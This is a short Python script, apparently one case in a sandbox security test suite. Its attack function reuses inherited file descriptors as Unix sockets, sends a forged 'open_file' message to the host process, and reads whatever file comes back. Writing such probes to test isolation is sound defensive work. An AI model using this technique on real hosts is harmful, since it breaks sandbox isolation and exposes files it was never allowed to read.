# It asks the host for a file by a frame of its own.
# after: read
# source: own
import os
import socket
import msgspec
def attack(path, **_):
    body = msgspec.msgpack.encode({"type": "open_file", "path": path})
    for number in range(3, 16):
        try:
            own = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, number)
            own.send(len(body).to_bytes(4, "big") + body)
        except OSError:
            continue
        try:
            said, descriptors, _, _ = socket.recv_fds(own, 65536, 4)
        except PermissionError:
            said, descriptors = own.recv(65536), []
        own.detach()
        return {"text": os.read(descriptors[0], 100).decode() if descriptors else "", "said": said.decode("latin-1")}
